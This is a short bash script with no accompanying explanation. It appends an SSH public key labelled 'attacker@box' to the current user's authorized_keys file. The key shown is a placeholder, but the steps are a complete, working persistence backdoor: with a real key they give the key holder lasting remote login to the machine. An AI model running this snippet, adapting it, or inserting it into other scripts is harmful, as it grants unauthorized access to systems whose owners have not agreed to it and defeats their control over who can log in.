#!/bin/bash
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@box' >> ~/.ssh/authorized_keys
